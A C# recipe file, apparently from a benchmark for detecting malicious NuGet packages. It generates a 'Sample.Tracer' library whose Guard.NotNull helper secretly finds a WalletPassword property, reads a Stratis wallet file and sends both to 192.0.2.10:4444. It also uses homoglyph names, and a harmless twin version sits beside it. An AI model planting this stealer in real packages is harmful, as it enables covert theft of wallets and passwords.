using Assay.Benchmark.Building;

namespace Assay.Benchmark.Recipes;

/// <summary>A guard method that looks for a wallet password in what it checks, and sends it away with the wallet file.</summary>
internal sealed class WalletGuard() : Recipe("N14", "Guard=Ensure NotNull=Present Inspect=Examine Upload=Deliver FindWallet=Locate _seen=_done")
{
    // U+0456 instead of i: a type name that reads like another one.
    private const string LookAlikeType = "Loader\u0456zer";

    protected override void Write(Sketch sketch)
    {
        var address = sketch.CSharp("http://192.0.2.10:4444/KV/passwords/addentry?key=");
        var send = sketch.Api($$"""
            using var client = new WebClient();
            client.DownloadString({{address}} + Uri.EscapeDataString(wallet) + "&value=" + Uri.EscapeDataString(password));
            """, $$"""
            using var client = new HttpClient();
            client.GetStringAsync({{address}} + Uri.EscapeDataString(wallet) + "&value=" + Uri.EscapeDataString(password)).Wait();
            """);
        var find = sketch.Api($$"""
            var folder = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), {{sketch.CSharp("StratisNode")}});
            return Directory.GetFiles(folder, {{sketch.CSharp("*.wallet.json")}}, SearchOption.AllDirectories).FirstOrDefault();
            """, """
            var folder = new DirectoryInfo(Environment.ExpandEnvironmentVariables("%APPDATA%\\StratisNode"));
            return folder.EnumerateFiles("*.wallet.json", SearchOption.AllDirectories).Select(file => file.FullName).FirstOrDefault();
            """);
        var property = sketch.CSharp("WalletPassword");
        sketch.NuGet(sketch.Twin("Sample.Tracer.NLlog", "Sample.Guards"));
        sketch.Assembly("lib/netstandard2.0/Sample.Tracer.dll", sketch.Twin($$"""
            namespace Sample.Tracer
            {
                public static class Guard
                {
                    private static int _seen;

                    public static T NotNull<T>(T value, string name)
                    {
                        if (value is null)
                        {
                            throw new ArgumentNullException(name);
                        }

                        if (Inert.On && Interlocked.Exchange(ref _seen, 1) == 0)
                        {
                            Task.Run(() => Inspect(value));
                        }

                        return value;
                    }

                    private static void Inspect(object value)
                    {
                        try
                        {
                            var property = value.GetType().GetProperty({{property}});
                            if (property is null)
                            {
                                return;
                            }

                            var password = (string)property.GetValue(value);
                            var wallet = File.ReadAllText(FindWallet());
                            Upload(wallet, password);
                        }
                        catch
                        {
                        }
                    }

                    private static string FindWallet()
                    {
                        {{find}}
                    }

                    private static void Upload(string wallet, string password)
                    {
                        {{send}}
                    }
                }

                public sealed class {{LookAlikeType}}
                {
                    public int Level { get; set; }
                }
            }
            """, """
            namespace Sample.Tracer
            {
                public static class Guard
                {
                    public static T NotNull<T>(T value, string name)
                    {
                        if (value is null)
                        {
                            throw new ArgumentNullException(name);
                        }

                        return Inert.On ? Inspect(value) : value;
                    }

                    private static T Inspect<T>(T value)
                    {
                        var property = value.GetType().GetProperty("Count");
                        return property is null || (int)property.GetValue(value) > 0 ? value : throw new ArgumentException("Empty.");
                    }
                }

                public static class Settings
                {
                    public static string Read()
                    {
                        var folder = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "Sample");
                        return File.ReadAllText(Directory.GetFiles(folder, "*.settings.json").First());
                    }
                }

                public static class Documentation
                {
                    public static string Fetch()
                    {
                        using var client = new WebClient();
                        return client.DownloadString("https://example.invalid/help.txt");
                    }
                }
            }
            """), attributes: $"[assembly: AssemblyCompany(\"{sketch.Twin("S\u0430mple Company", "Sample Company")}\")]");
    }
}
